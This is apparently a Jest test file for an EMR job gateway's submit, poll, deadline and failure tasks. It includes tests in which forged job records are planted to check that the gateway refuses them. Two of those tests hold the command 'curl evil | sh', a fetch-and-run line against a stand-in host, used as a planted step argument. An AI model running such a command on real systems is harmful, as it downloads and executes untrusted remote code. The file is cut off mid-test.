/**
 * StepTasks (src/jobs/step-tasks.ts) against the in-memory ports, with a simulated clock: the state machine's
 * SubmitStep, PollStep and RecordFailure tasks, and EMR step events, driven as the ASL drives them. Every
 * scenario asserts the job, the exact audit sequence, and that the chain verifies against the job's head.
 * The same scenarios through the real ASL and dynalite: integration/workflow.test.ts and faults.test.ts.
 */
import asl from '../../statemachines/submit-job.asl.json';
import { genesisHash, hashEvent } from '../../src/audit/chain';
import { TransientError } from '../../src/errors';
import { stepArguments } from '../../src/jobs/emr-step';
import { newJobId } from '../../src/jobs/job-id';
import type { Job } from '../../src/jobs/model';
import type { JobRequest } from '../../src/jobs/request';
import { subjectOf } from '../../src/jobs/step-tasks';
import { workflowRoutes } from '../../src/jobs/task-routes';
import { hashOf } from '../../src/util/canonical';
import type { PollInput } from '../../src/jobs/step-tasks';
import type { PollingPolicy } from '../../src/jobs/workflow-input';
import { verifiedTrail } from '../support/audit';
import { ALICE, CLUSTER, PLAIN_CLUSTER, role, submitBody } from '../support/config';
import { crashAfterEvent, rejected, throttled } from '../support/fakes';
import { memoryGateway, type MemoryGateway } from '../support/memory-gateway';

let g: MemoryGateway;
beforeEach(() => {
  g = memoryGateway();
});

async function accepted(body = submitBody(), gateway = g): Promise<Job> {
  return (await gateway.service.submit({ caller: { callerArn: ALICE }, body })).job;
}
const trail = (jobId: string, gateway = g): Promise<string[]> => verifiedTrail(gateway, jobId, { headAtEnd: true });
const job = async (jobId: string): Promise<Job> => (await g.jobs.get(jobId))!;
const eventOf = async (jobId: string, type: string) => (await g.audit.list(jobId)).find((e) => e.type === type);
const poll = (jobId: string, previous: PollInput['poll']) => g.tasks.poll({ ...g.input(jobId), poll: previous });
/** The stored job matches `expected` and has none of the `absent` fields. */
async function expectJob(jobId: string, expected: Record<string, unknown>, absent: (keyof Job)[] = []): Promise<void> {
  const stored = await job(jobId);
  expect(stored).toMatchObject(expected);
  for (const key of absent) expect(stored).not.toHaveProperty(key);
}

describe('submit', () => {
  it('adds exactly one step, named with the job marker, under the runtime role, and records SUBMITTED', async () => {
    const { jobId } = await accepted();
    const result = await g.tasks.submit(g.input(jobId));
    expect(result).toEqual({ jobId, done: false, status: 'SUBMITTED', waitSeconds: 15, timeoutSeconds: 31_536_000, heartbeatSeconds: 3600 });
    expect(g.emr.calls.map((c) => c.operation)).toEqual(['add']); // a first attempt has nothing to look for
    const [step] = g.emr.steps;
    expect(step).toMatchObject({ clusterId: CLUSTER, name: `nightly etl [${jobId}]`, job: { executionRoleArn: role('CallerTeamRoleETL') } });
    expect(await job(jobId)).toMatchObject({ status: 'SUBMITTED', stepId: step!.id, submittedAt: g.clock.now().toISOString(), submitAttempts: 1 });
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED']);
    expect((await eventOf(jobId, 'SUBMITTED'))?.emr).toEqual({ stepId: step!.id, sourceIdentity: 'alice' });

    // The task run again (a retried Lambda whose first run succeeded): nothing more reaches EMR or the trail.
    expect(await g.tasks.submit(g.input(jobId))).toEqual(result);
    expect(g.emr.calls).toHaveLength(1);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED']);
  });

  it('reads the job once: each of its writes starts from the job it holds (a read only when another writer moved it)', async () => {
    const { jobId } = await accepted();
    const reads = jest.spyOn(g.jobs, 'get');
    await g.tasks.submit(g.input(jobId));
    expect(reads).toHaveBeenCalledTimes(1);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED']);
    const [step] = g.emr.steps;
    reads.mockClear();
    // A step event (RUNNING): the job read once, the event recorded from it.
    expect(await g.tasks.observeStepEvent({ clusterId: CLUSTER, stepId: step!.id, name: step!.name, state: 'RUNNING' })).toBe('RUNNING');
    expect(reads).toHaveBeenCalledTimes(1);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING']);
  });

  it("records the source identity only as EMR's submission carried it (none where the cluster does not propagate it)", async () => {
    const { jobId } = await accepted(submitBody({ clusterId: PLAIN_CLUSTER }));
    await g.tasks.submit(g.input(jobId));
    expect((await eventOf(jobId, 'SUBMITTED'))?.emr).toEqual({ stepId: g.emr.steps[0]!.id });
  });

  it("cuts a long name so that the marker still fits in EMR's 256 characters", async () => {
    const { jobId } = await accepted(submitBody({ name: 'n'.repeat(256) }));
    await g.tasks.submit(g.input(jobId));
    const { name } = g.emr.steps[0]!;
    expect(name).toHaveLength(256);
    expect(name.endsWith(` [${jobId}]`)).toBe(true);
  });

  it('a retry after a crash between the audit write and the job update finds the step by its marker instead of adding a second', async () => {
    const fault = crashAfterEvent(g, 'SUBMITTED');
    const { jobId, createdAt } = await accepted();
    await expect(g.tasks.submit(g.input(jobId))).rejects.toThrow(TransientError);
    expect(fault.crashes).toBe(1);
    await expectJob(jobId, { status: 'ACCEPTED', submitAttempts: 1 }, ['stepId']);
    expect((await g.audit.list(jobId)).map((e) => e.type)).toEqual(['DECISION', 'SUBMITTED']); // the trail is one event ahead

    const result = await g.tasks.submit(g.input(jobId));
    expect(result).toMatchObject({ done: false, status: 'SUBMITTED' });
    expect(g.emr.count('add')).toBe(1);
    expect(g.emr.calls[1]).toEqual({ operation: 'find', args: [CLUSTER, `[${jobId}]`, new Date(Date.parse(createdAt) - 60_000)] });
    expect((await job(jobId)).stepId).toBe(g.emr.steps[0]!.id);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED']);
  });

  it('a retry after a lost AddJobFlowSteps answer (the step was added) finds the step instead of adding a second', async () => {
    const { jobId } = await accepted();
    g.emr.duringAdd = () => {
      g.emr.duringAdd = undefined;
      return Promise.reject(throttled());
    };
    await expect(g.tasks.submit(g.input(jobId))).rejects.toThrow(TransientError);
    await g.tasks.submit(g.input(jobId));
    expect(g.emr.steps).toHaveLength(1);
    expect(g.emr.calls.map((c) => c.operation)).toEqual(['add', 'find']);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED']);
  });

  it("a TransientError from EMR leaves as TransientError named Gateway.Transient, which the ASL's Retry matches; the retry adds the step once", async () => {
    const { jobId } = await accepted();
    g.emr.failNext('add', throttled());
    const error = await g.tasks.submit(g.input(jobId)).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(TransientError);
    expect((error as TransientError).name).toBe('Gateway.Transient');
    for (const state of ['SubmitStep', 'PollStep'] as const) expect(asl.States[state].Retry[0]!.ErrorEquals).toContain((error as Error).name);
    expect(await job(jobId)).toMatchObject({ status: 'ACCEPTED', submitAttempts: 1 });
    expect(await trail(jobId)).toEqual(['DECISION']);

    await g.tasks.submit(g.input(jobId));
    expect(g.emr.calls.map((c) => c.operation)).toEqual(['add', 'find', 'add']); // looked for a step first: there was none
    expect(g.emr.steps).toHaveLength(1);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED']);
  });

  it('with a pending cancel and no step: CANCELLED without calling EMR', async () => {
    const { jobId } = await accepted();
    await g.service.cancel({ callerArn: ALICE }, jobId, 'TERMINATE_PROCESS');
    expect(await g.tasks.submit(g.input(jobId))).toMatchObject({ done: true, status: 'CANCELLED' });
    expect(g.emr.calls).toEqual([]);
    await expectJob(jobId, { status: 'CANCELLED', finishedAt: g.clock.now().toISOString() }, ['stepId']);
    expect(await trail(jobId)).toEqual(['DECISION', 'CANCEL_REQUESTED', 'CANCELLED']);
    expect((await eventOf(jobId, 'CANCELLED'))?.detail).toEqual({ before: 'submission' });
  });

  it("EMR's rejection: REJECTED with reason EMR_REJECTED and EMR's message, audited, never polled", async () => {
    const message = 'Runtime roles are not supported on this cluster.';
    const { jobId } = await accepted();
    g.emr.failNext('add', rejected(message));
    expect(await g.tasks.submit(g.input(jobId))).toMatchObject({ done: true, status: 'REJECTED' });
    expect(await job(jobId)).toMatchObject({ status: 'REJECTED', failureDetails: { reason: 'EMR_REJECTED', message } });
    expect(await trail(jobId)).toEqual(['DECISION', 'REJECTED']);
    expect((await eventOf(jobId, 'REJECTED'))?.detail).toEqual({ by: 'EMR', error: 'ValidationException', message, failureDetails: { reason: 'EMR_REJECTED', message } });
    await g.tasks.submit(g.input(jobId));
    expect(g.emr.calls.map((c) => c.operation)).toEqual(['add']);
  });

  it('a job failed while its step was being added: the step is stopped and the job stays FAILED', async () => {
    const { jobId } = await accepted();
    g.emr.nextScript = ['RUNNING'];
    g.emr.duringAdd = async () => {
      g.emr.duringAdd = undefined;
      await g.tasks.fail({ ...g.input(jobId), error: { Error: 'States.Runtime', Cause: 'a concurrent run failed' } });
    };
    expect(await g.tasks.submit(g.input(jobId))).toMatchObject({ done: true, status: 'FAILED' });
    expect(g.emr.steps[0]!.cancelledWith).toBe('TERMINATE_PROCESS');
    await expectJob(jobId, { status: 'FAILED' }, ['stepId']);
    // The step that was added is on record, after the outcome that ended the job, as what happened after it
    // (not as SUBMITTED, which would tell of a job submitted after it had failed).
    expect(await trail(jobId)).toEqual(['DECISION', 'FAILED', 'STEP_STOPPED']);
    expect((await eventOf(jobId, 'STEP_STOPPED'))?.emr).toEqual({ stepId: g.emr.steps[0]!.id, stopped: true });
  });
});

/**
 * Defence in depth: someone who can write the jobs table (but not the gateway's audit key) plants an ACCEPTED
 * job. The submit task adds a step only for a job whose trail begins with an Allowed DECISION, sealed by the
 * gateway, for exactly this request (its hash, principal, role and cluster), under a role from the catalogue.
 */
describe('submit refuses a job no decision allowed (planted straight into the jobs table)', () => {
  /** The job record a legitimate submission left, as the attacker would copy it. */
  async function template(): Promise<Job> {
    return job((await accepted()).jobId);
  }
  /** Writes `record` into the jobs table as is. */
  function plant(record: Job): string {
    g.jobs.items.set(record.jobId, structuredClone(record));
    return record.jobId;
  }
  /** `job` with its request changed, and the hashes recomputed as the gateway would for that request. */
  function withRequest(source: Job, request: JobRequest): Job {
    return {
      ...source,
      request,
      requestHash: hashOf(request),
      argsHash: hashOf(stepArguments(request.step)),
      executionRoleArn: request.executionRoleArn,
      clusterId: request.clusterId,
    };
  }
  const types = async (jobId: string): Promise<string[]> => (await g.audit.list(jobId)).map((e) => e.type);

  /** Submit ends the job REJECTED by the gateway, without any EMR call, with the reason on the job and in its trail. */
  async function expectRefused(jobId: string, reason: RegExp, callsBefore = 0): Promise<void> {
    expect(await g.tasks.submit(g.input(jobId))).toMatchObject({ done: true, status: 'REJECTED' });
    expect(g.emr.calls).toHaveLength(callsBefore);
    const stored = await job(jobId);
    expect(stored).toMatchObject({ status: 'REJECTED', failureDetails: { reason: 'GATEWAY_REFUSED', message: expect.stringMatching(reason) as unknown } });
    expect(stored).not.toHaveProperty('stepId');
    const rejected = await eventOf(jobId, 'REJECTED');
    expect(rejected?.detail).toMatchObject({ by: 'gateway', reason: expect.stringMatching(reason) as unknown });
    // Run again (a retried task): still nothing reaches EMR.
    await g.tasks.submit(g.input(jobId));
    expect(g.emr.calls).toHaveLength(callsBefore);
  }

  it('no DECISION at all: a job record with no audit trail', async () => {
    const source = await template();
    const jobId = plant({ ...source, jobId: newJobId(g.clock.now()) });
    await expectRefused(jobId, /no decision/);
    expect(await types(jobId)).toEqual(['REJECTED']);
  });

  it('a DECISION for another role: the job record changed to a catalogue role the caller may not use', async () => {
    const source = await template();
    plant(withRequest(source, { ...source.request, executionRoleArn: role('Caller') }));
    await expectRefused(source.jobId, /no decision for this request/);
    expect(await types(source.jobId)).toEqual(['DECISION', 'REJECTED']);
  });

  it('a DECISION for another body: the step\'s arguments changed', async () => {
    const source = await template();
    plant(withRequest(source, { ...source.request, step: { type: 'command', args: ['bash', '-c', 'curl evil | sh'] } }));
    await expectRefused(source.jobId, /no decision for this request/);
  });

  it('the request edited but the recorded hashes kept', async () => {
    const source = await template();
    plant({ ...source, request: { ...source.request, step: { type: 'command', args: ['bash', '-c', 'curl evil | sh'] } } });
    await expectRefused(source.jobId, /does not match its request/);
  });

  it('another principal: the job record names someone else as its caller', async () => {
    const source = await template();
    const other = { principalArn: role('Contractors'), callerArn: 'arn:aws:sts::123456789012:assumed-role/Contractors/carol', sourceIdentity: 'carol' };
    plant({ ...source, actor: other, principalArn: other.principalArn });
    await expectRefused(source.jobId, /another principal/);
  });

  it('a role outside the catalogue', async () => {
    const source = await template();
    plant(withRequest(source, { ...source.request, executionRoleArn: role('Admin') }));
    await expectRefused(source.jobId, /not in the gateway's catalogue/);
  });

  it('a DECISION forged in the audit table: hash-chained like the gateway\'s, but not sealed with its key', async () => {
    const source = await template();
    const jobId = newJobId(g.clock.now());
    const record = plant({ ...source, jobId });
    const forged = {
      type: 'DECISION',
      dedupeKey: `DECISION:${source.requestHash}`,
      actor: { ...source.actor },
      subject: { ...subjectOf(source), name: source.name, requestHash: source.requestHash },
      decision: { result: 'Allowed', reason: 'forged', allowedBy: [], deniedBy: [] },
      jobId: record,
      seq: 0,
      at: g.clock.now().toISOString(),
      prevHash: genesisHash(jobId),
    };
    g.audit.chains.set(jobId, [{ ...forged, hash: hashEvent(forged) }]);
    await expectRefused(jobId, /does not verify/);
  });

  it('a finished job set back to ACCEPTED (a replay of an allowed request) adds no second step and keeps its outcome', async () => {
    const { jobId } = await accepted();
    await g.run(jobId);
    const done = await job(jobId);
    expect(done.status).toBe('COMPLETED');
    const calls = g.emr.calls.length;
    const { stepId: _s, emrState: _e, finishedAt: _f, submittedAt: _t, ...reopened } = done;
    plant({ ...reopened, status: 'ACCEPTED', submitAttempts: 0 });
    expect(await g.tasks.submit(g.input(jobId))).toMatchObject({ done: true, status: 'COMPLETED' });
    expect(g.emr.count('add')).toBe(1);
    expect(g.emr.calls).toHaveLength(calls);
  });
});

describe('poll', () => {
  it('records each non-terminal EMR state once and ends COMPLETED', async () => {
    g.emr.nextScript = ['PENDING', 'PENDING', 'RUNNING', 'RUNNING', 'RUNNING', 'COMPLETED'];
    const { jobId } = await accepted();
    const { result } = await g.run(jobId);
    expect(result).toMatchObject({ done: true, status: 'COMPLETED' });
    expect(g.emr.count('describe')).toBe(6);
    await expectJob(jobId, { status: 'COMPLETED', emrState: 'COMPLETED', finishedAt: g.clock.now().toISOString() }, ['failureDetails']);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:PENDING', 'STATE_CHANGED:RUNNING', 'COMPLETED']);
  });

  const failure = { reason: 'Unknown Error.', message: 'java.lang.RuntimeException: boom', logFile: 's3://logs/steps/s-1/stderr.gz' };
  const reason = { code: 'SOME_CODE', message: 'what EMR says about the change' };
  it.each([
    ['FAILED with FailureDetails: they win over the StateChangeReason', 'FAILED', failure, reason, 'FAILED', failure],
    ['FAILED without FailureDetails: the StateChangeReason', 'FAILED', undefined, reason, 'FAILED', { reason: 'SOME_CODE', message: 'what EMR says about the change' }],
    ['INTERRUPTED: the StateChangeReason', 'INTERRUPTED', undefined, reason, 'INTERRUPTED', { reason: 'SOME_CODE', message: 'what EMR says about the change' }],
    ['CANCELLED on EMR: no failure details', 'CANCELLED', undefined, reason, 'CANCELLED', undefined],
    ["CANCELLED by another step's CANCEL_AND_WAIT (EMR gives no code): no failure details", 'CANCELLED', undefined, { message: 'Cancelled after step s-2 failed (CANCEL_AND_WAIT).' }, 'CANCELLED', undefined],
    ['COMPLETED: no failure details', 'COMPLETED', undefined, reason, 'COMPLETED', undefined],
  ] as const)('%s', async (_title, last, failureDetails, stateChangeReason, status, expected) => {
    g.emr.nextScript = ['RUNNING', last];
    g.emr.nextFailure = failureDetails;
    g.emr.nextReason = stateChangeReason;
    const { jobId } = await accepted();
    expect((await g.run(jobId)).result).toMatchObject({ done: true, status });
    expect((await job(jobId)).failureDetails).toEqual(expected);
    // EMR's reason is kept as EMR gave it, whatever the ending (the only explanation of a cancel nobody asked for).
    expect((await job(jobId)).stateChangeReason).toEqual(stateChangeReason);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING', status]);
    const terminal = await eventOf(jobId, status);
    expect(terminal?.emr).toEqual({ stepId: g.emr.steps[0]!.id, state: last, ...(expected ? { failureDetails: expected } : {}), stateChangeReason });
  });

  it('a cancel whose CancelSteps failed transiently is sent again by the next poll, and the job ends CANCELLED', async () => {
    g.emr.nextScript = ['RUNNING'];
    const { jobId } = await accepted();
    let result = await g.tasks.submit(g.input(jobId));
    result = await poll(jobId, result);
    g.emr.failNext('cancel', throttled('CancelSteps'));
    await expect(g.service.cancel({ callerArn: ALICE }, jobId)).rejects.toThrow(TransientError);
    await expectJob(jobId, { cancelRequested: { by: ALICE, mode: 'SEND_INTERRUPT' } });
    expect((await job(jobId)).cancelRequested).not.toHaveProperty('sent');
    result = await poll(jobId, result);
    expect((await job(jobId)).cancelRequested).toMatchObject({ mode: 'SEND_INTERRUPT', sent: true });
    while (!result.done) result = await poll(jobId, result);
    expect(result.status).toBe('CANCELLED');
    expect(g.emr.calls.filter((c) => c.operation === 'cancel').map((c) => c.args[2])).toEqual(['SEND_INTERRUPT', 'SEND_INTERRUPT']);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING', 'CANCEL_REQUESTED', 'STATE_CHANGED:CANCEL_PENDING', 'CANCELLED']);
  });

  it('a poll of a job with no step yet changes nothing and keeps the wait', async () => {
    const { jobId } = await accepted();
    expect(await poll(jobId, { done: false, status: 'ACCEPTED', waitSeconds: 40 })).toEqual({ jobId, done: false, status: 'ACCEPTED', waitSeconds: 40, timeoutSeconds: 31_536_000, heartbeatSeconds: 3600 });
    expect(g.emr.calls).toEqual([]);
  });
});

describe('deadline', () => {
  it('at timeoutSeconds the step is cancelled once with TERMINATE_PROCESS; CANCELLED then reads TIMED_OUT', async () => {
    g.emr.nextScript = ['RUNNING'];
    const { jobId, createdAt } = await accepted(submitBody({ timeoutSeconds: 60 }));
    const { result, waits } = await g.run(jobId);
    expect(result).toMatchObject({ done: true, status: 'TIMED_OUT' });
    expect(await job(jobId)).toMatchObject({ status: 'TIMED_OUT', timedOut: true, emrState: 'CANCELLED', cancelRequested: { mode: 'TERMINATE_PROCESS', sent: true } });
    expect(g.emr.calls.filter((c) => c.operation === 'cancel')).toEqual([{ operation: 'cancel', args: [CLUSTER, g.emr.steps[0]!.id, 'TERMINATE_PROCESS'] }]);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING', 'TIMEOUT', 'STATE_CHANGED:CANCEL_PENDING', 'TIMED_OUT']);
    const timeout = await eventOf(jobId, 'TIMEOUT');
    expect(Date.parse(timeout!.at) - Date.parse(createdAt)).toBe(60_000);
    expect(timeout?.detail).toEqual({ timeoutSeconds: 60 });
    // 15 s, then 30 s would pass 60 s: cut to the 15 s left; after the deadline the backoff goes on uncut.
    expect(waits).toEqual([15, 30, 15, 30, 60]);
  });

  it('a wait before the deadline: its heartbeat is shorter than its timeout, as the States Language requires of HeartbeatSeconds, to the last second', async () => {
    g.emr.nextScript = ['RUNNING'];
    const { jobId, createdAt } = await accepted(submitBody({ timeoutSeconds: 60 }));
    const submitted = await g.tasks.submit(g.input(jobId));
    expect(submitted).toMatchObject({ done: false, timeoutSeconds: 60, heartbeatSeconds: 59 });
    for (const left of [30, 2, 1, 0.5]) {
      g.clock.advance((Date.parse(createdAt) + (60 - left) * 1000 - g.clock.now().getTime()) / 1000);
      const polled = await g.tasks.poll({ ...g.input(jobId), poll: submitted });
      if (polled.done) break;
      expect(polled.heartbeatSeconds).toBeGreaterThanOrEqual(1);
      expect(polled.heartbeatSeconds).toBeLessThan(polled.timeoutSeconds);
    }
  });

  it('submission past the deadline (EMR refused it transiently until then): TIMED_OUT before any EMR call, never FAILED', async () => {
    const { jobId } = await accepted(submitBody({ timeoutSeconds: 60 }));
    g.emr.failNext('add', throttled());
    await expect(g.tasks.submit(g.input(jobId))).rejects.toThrow(TransientError);
    g.clock.advance(61);
    expect(await g.tasks.submit(g.input(jobId))).toMatchObject({ done: true, status: 'TIMED_OUT' });
    expect(g.emr.calls.map((c) => c.operation)).toEqual(['add', 'find']); // looked for a step an attempt may have added: none
    const message = 'the deadline (60 s) passed before EMR accepted the step';
    await expectJob(jobId, { status: 'TIMED_OUT', failureDetails: { reason: 'DEADLINE', message } }, ['stepId', 'timedOut']);
    expect(await trail(jobId)).toEqual(['DECISION', 'TIMED_OUT']);
    expect((await eventOf(jobId, 'TIMED_OUT'))?.detail).toEqual({ by: 'gateway', before: 'submission', timeoutSeconds: 60, failureDetails: { reason: 'DEADLINE', message } });
  });

  it('past the deadline, a step an earlier attempt added is followed, not abandoned: the poll times it out', async () => {
    g.emr.nextScript = ['RUNNING'];
    const { jobId } = await accepted(submitBody({ timeoutSeconds: 60 }));
    g.emr.duringAdd = () => {
      g.emr.duringAdd = undefined;
      return Promise.reject(throttled()); // the step was added, the answer lost
    };
    await expect(g.tasks.submit(g.input(jobId))).rejects.toThrow(TransientError);
    g.clock.advance(61);
    let result = await g.tasks.submit(g.input(jobId));
    expect(result).toMatchObject({ done: false, status: 'SUBMITTED' });
    while (!result.done) result = await poll(jobId, result);
    expect(result.status).toBe('TIMED_OUT');
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING', 'TIMEOUT', 'STATE_CHANGED:CANCEL_PENDING', 'TIMED_OUT']);
  });

  it('a step that ends by itself before the deadline is not cancelled', async () => {
    g.emr.nextScript = ['RUNNING', 'COMPLETED'];
    const { jobId } = await accepted(submitBody({ timeoutSeconds: 600 }));
    expect((await g.run(jobId)).result.status).toBe('COMPLETED');
    expect(g.emr.count('cancel')).toBe(0);
    expect((await job(jobId)).timedOut).toBeUndefined();
  });

  it('a timeout cancel EMR refuses (the step finished meanwhile): CANCEL_FAILED audited, not sent again, the job ends as EMR says', async () => {
    g.emr.nextScript = ['RUNNING'];
    const { jobId } = await accepted(submitBody({ timeoutSeconds: 10 }));
    let result = await g.tasks.submit(g.input(jobId));
    g.clock.advance(result.waitSeconds);
    const cancel = jest.spyOn(g.emr, 'cancel').mockResolvedValueOnce({ status: 'FAILED', reason: 'step is COMPLETED' });
    result = await poll(jobId, result);
    g.emr.steps[0]!.script.push('COMPLETED');
    while (!result.done) result = await poll(jobId, result);
    expect(result.status).toBe('COMPLETED');
    expect(cancel).toHaveBeenCalledTimes(1);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING', 'TIMEOUT', 'CANCEL_FAILED', 'COMPLETED']);
    expect((await eventOf(jobId, 'CANCEL_FAILED'))?.emr).toEqual({ stepId: g.emr.steps[0]!.id, reason: 'step is COMPLETED' });
  });

  const policy = (initialSeconds: number, factor: number, maxSeconds: number): PollingPolicy => ({ initialSeconds, factor, maxSeconds });
  it.each([
    // [polling, timeoutSeconds, the waits until the deadline]
    [policy(15, 2, 300), 3600, [15, 30, 60, 120, 240, ...Array<number>(10).fill(300), 135]],
    [policy(10, 1.5, 60), 200, [10, 15, 23, 35, 53, 60, 4]],
    [policy(120, 2, 300), 30, [30]],
    [policy(5, 1, 5), 12, [5, 5, 2]],
  ])('waits follow capped exponential backoff and never pass the deadline (%j, timeout %d s)', async (polling, timeoutSeconds, expected) => {
    const gw = memoryGateway({ polling });
    gw.emr.nextScript = ['RUNNING'];
    const { jobId, createdAt } = await accepted(submitBody({ timeoutSeconds }), gw);
    const { waits } = await gw.run(jobId);
    const beforeDeadline = waits.slice(0, expected.length);
    expect(beforeDeadline).toEqual(expected);
    expect(beforeDeadline.reduce((a, b) => a + b, 0)).toBe(timeoutSeconds);
    const timeout = (await gw.audit.list(jobId)).find((e) => e.type === 'TIMEOUT')!;
    expect(Date.parse(timeout.at) - Date.parse(createdAt)).toBe(timeoutSeconds * 1000);
    expect(Math.max(...waits)).toBeLessThanOrEqual(polling.maxSeconds);
  });
});

describe('fail (the Catch of every task)', () => {
  it('takes the {Error: null, Cause: null} a SendTaskFailure without error or cause leaves in the Catch', async () => {
    const { jobId } = await accepted();
    const result = await workflowRoutes(g.tasks).FailJobFunctionArn({ ...g.input(jobId), error: { Error: null, Cause: null } });
    expect(result).toMatchObject({ done: true, status: 'FAILED' });
    expect((await job(jobId)).failureDetails).toEqual({ reason: 'GATEWAY_ERROR', message: 'Error: ' });
  });

  it('ends FAILED with GATEWAY_ERROR and the error, and stops a live step', async () => {
    g.emr.nextScript = ['RUNNING'];
    const { jobId } = await accepted();
    await poll(jobId, await g.tasks.submit(g.input(jobId)));
    const result = await g.tasks.fail({ ...g.input(jobId), error: { Error: 'States.Runtime', Cause: 'boom' } });
    expect(result).toMatchObject({ done: true, status: 'FAILED' });
    const message = 'States.Runtime: boom';
    expect(await job(jobId)).toMatchObject({ status: 'FAILED', failureDetails: { reason: 'GATEWAY_ERROR', message } });
    expect(g.emr.steps[0]!.cancelledWith).toBe('TERMINATE_PROCESS');
    expect((await eventOf(jobId, 'FAILED'))?.detail).toEqual({ by: 'gateway', error: message, stepStopped: true, failureDetails: { reason: 'GATEWAY_ERROR', message } });
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING', 'FAILED']);
  });

  it('before any step: FAILED without calling EMR; a long cause is cut to 1000 characters', async () => {
    const { jobId } = await accepted();
    await g.tasks.fail({ ...g.input(jobId), error: { Error: 'Lambda.Unknown', Cause: 'x'.repeat(5000) } });
    expect(g.emr.calls).toEqual([]);
    expect((await job(jobId)).failureDetails?.message).toBe(`Lambda.Unknown: ${'x'.repeat(1000)}`);
    expect((await eventOf(jobId, 'FAILED'))?.detail).not.toHaveProperty('stepStopped');
    expect(await trail(jobId)).toEqual(['DECISION', 'FAILED']);
  });

  it('a terminal state is never replaced: not by fail, a poll, a submit or a step event', async () => {
    g.emr.nextScript = ['COMPLETED'];
    const { jobId } = await accepted();
    const { result } = await g.run(jobId);
    const before = await job(jobId);
    const calls = g.emr.calls.length;
    expect(await g.tasks.fail({ ...g.input(jobId), error: { Error: 'States.Runtime', Cause: 'late' } })).toMatchObject({ done: true, status: 'COMPLETED' });
    expect(await poll(jobId, result)).toMatchObject({ done: true, status: 'COMPLETED' });
    expect(await g.tasks.submit(g.input(jobId))).toMatchObject({ done: true, status: 'COMPLETED' });
    const step = g.emr.steps[0]!;
    expect(await g.tasks.observeStepEvent({ stepId: step.id, clusterId: CLUSTER, name: step.name, state: 'FAILED' })).toBe('COMPLETED');
    expect(g.emr.calls).toHaveLength(calls);
    expect(await job(jobId)).toEqual(before);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'COMPLETED']);
  });

  it('a terminal event whose job update failed for good: the Catch finds it and the job takes that outcome, not FAILED', async () => {
    const fault = crashAfterEvent(g, 'COMPLETED', () => new Error('the update is refused for good'));
    g.emr.nextScript = ['RUNNING', 'COMPLETED'];
    const { jobId } = await accepted();
    await expect(g.run(jobId)).rejects.toThrow('refused for good');
    expect(fault.crashes).toBe(1);
    expect((await job(jobId)).status).toBe('RUNNING');
    expect(await g.tasks.fail({ ...g.input(jobId), error: { Error: 'Error', Cause: 'the update is refused for good' } })).toMatchObject({ done: true, status: 'COMPLETED' });
    await expectJob(jobId, { status: 'COMPLETED', emrState: 'COMPLETED' }, ['failureDetails']);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING', 'COMPLETED']);
  });
});

/**
 * The trail tells events in the order they happened: a poll that read a state before the step's end was recorded
 * (by a step event, or another run) must not append that state after the end, nor move the job back. The check
 * is part of the append's conditional write, so no read before it can be overtaken.
 */
describe('order of the trail under races', () => {
  /** A submitted job whose next DescribeStep answers `stale`, while `meanwhile` runs before the answer arrives. */
  async function raced(stale: 'PENDING' | 'RUNNING', meanwhile: (step: { id: string; name: string }) => Promise<unknown>): Promise<string> {
    const { jobId } = await accepted();
    await g.tasks.submit(g.input(jobId));
    const step = g.emr.steps[0]!;
    jest.spyOn(g.emr, 'describe').mockImplementationOnce(async () => {
      await meanwhile(step);
      return { state: stale };
    });
    return jobId;
  }

  it('a RUNNING read by a poll before the COMPLETED event was recorded is not appended after it', async () => {
    g.emr.nextScript = ['COMPLETED'];
    const jobId = await raced('RUNNING', (step) => g.tasks.observeStepEvent({ stepId: step.id, clusterId: CLUSTER, name: step.name, state: 'COMPLETED' }));
    expect(await poll(jobId, { done: false, status: 'SUBMITTED', waitSeconds: 15 })).toMatchObject({ done: true, status: 'COMPLETED' });
    await expectJob(jobId, { status: 'COMPLETED', emrState: 'COMPLETED' });
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'COMPLETED']);
  });

  it('a PENDING read before RUNNING was recorded is not appended after it, and the job does not go back to PENDING', async () => {
    g.emr.nextScript = ['RUNNING'];
    const jobId = await raced('PENDING', (step) => g.tasks.observeStepEvent({ stepId: step.id, clusterId: CLUSTER, name: step.name, state: 'RUNNING' }));
    expect(await poll(jobId, { done: false, status: 'SUBMITTED', waitSeconds: 15 })).toMatchObject({ done: false, status: 'RUNNING' });
    await expectJob(jobId, { status: 'RUNNING', emrState: 'RUNNING' });
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING']);
  });

  it('a deadline reached by a poll after the step ended is no TIMEOUT: the job keeps its end, no cancel is sent', async () => {
    g.emr.nextScript = ['RUNNING', 'COMPLETED'];
    const { jobId } = await accepted(submitBody({ timeoutSeconds: 60 }));
    const running = await poll(jobId, await g.tasks.submit(g.input(jobId)));
    const step = g.emr.steps[0]!;
    g.clock.advance(60);
    // The poll's DescribeStep still says RUNNING; the step's COMPLETED event is recorded before the poll's TIMEOUT is written.
    jest.spyOn(g.emr, 'describe').mockResolvedValueOnce({ state: 'RUNNING' });
    const append = g.audit.append.bind(g.audit);
    jest.spyOn(g.audit, 'append').mockImplementation(async (chainId, draft, options) => {
